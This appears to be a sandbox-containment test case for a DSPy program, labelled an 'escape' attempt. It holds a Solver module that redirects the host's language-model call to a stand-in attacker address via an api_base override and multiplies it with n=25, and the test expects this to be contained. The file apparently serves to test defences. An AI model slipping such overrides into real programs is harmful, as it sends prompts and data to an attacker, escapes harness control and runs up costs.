# escape: redirect the host's LM call to an attacker URL (config api_base) and multiply it (n=25)
# expect: contained
# kind: exception

class Solver(dspy.Module):
    def __init__(self):
        super().__init__()
        self.p = dspy.Predict("canary -> answer")

    def forward(self, canary):
        out = self.p(canary=canary, config={"api_base": "http://127.0.0.1:9/v1", "n": 25})
        return dspy.Prediction(answer=out.answer)
